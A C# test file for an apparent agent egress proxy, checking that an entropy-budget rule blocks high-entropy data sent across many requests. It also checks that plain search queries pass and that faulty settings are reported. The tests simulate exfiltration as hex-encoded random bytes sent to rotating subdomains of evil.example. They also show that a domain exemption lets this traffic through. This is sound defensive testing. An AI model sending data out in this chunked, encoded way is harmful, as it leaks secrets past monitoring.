using Postern.Engine.Configuration;
using Postern.Engine.Tests.Inspection;

namespace Postern.Engine.Tests.Monitoring;

/// <summary>How much that looks drawn by lot one agent may send.</summary>
public sealed class EntropyBudgetTests
{
    private const string Quiet = "fetch_proxy: { monitoring: { max_requests_per_minute: 0, entropy_threshold: 0 } }\n";

    [Theory]
    [InlineData("", false)]
    [InlineData("action: block, ", true)]
    [InlineData("action: block, exempt_domains: [evil.example], ", false)]
    public async Task Beyond_it_a_request_is_refused_where_that_is_configured(string more, bool refuses)
    {
        var world = new TestWorld(Quiet + "cross_request_detection: { enabled: true, entropy_budget: { " + more + "enabled: true, bits_per_window: 512 } }");
        var random = new Random(2);
        var refused = false;
        for (var i = 0; i < 12; i++)
        {
            var bytes = new byte[12];
            random.NextBytes(bytes);
            refused |= (await world.RuleAsync(world.Exchange(), TestWorld.Request($"https://a{i}.evil.example/?d={Convert.ToHexStringLower(bytes)}"))) is { Decisive.Rule.Id: "secret.entropy-budget" };
        }

        Assert.Equal(refuses, refused);
    }

    [Fact]
    public async Task Words_cost_nothing()
    {
        var world = new TestWorld(Quiet + "cross_request_detection: { enabled: true, entropy_budget: { action: block, enabled: true, bits_per_window: 128 } }");
        for (var i = 0; i < 50; i++)
        {
            Assert.Null(await world.RuleAsync(world.Exchange(), TestWorld.Request($"https://a.example/search?q=ordinary+questions+about+weather&page={i}&language=english")));
        }
    }

    [Theory]
    [InlineData("cross_request_detection: { enabled: true, fragment_reassembly: { enabled: false } }", "neither")]
    [InlineData("cross_request_detection: { enabled: true, entropy_budget: { enabled: true, exempt_domains: [a.b.example] } }", "registrable")]
    public void What_would_not_act_as_written_is_an_error(string yaml, string message) =>
        Assert.Contains(message, Assert.Single(PolicyCompiler.Compile(ConfigReader.Read(yaml, "f").Config!).Errors), StringComparison.Ordinal);
}
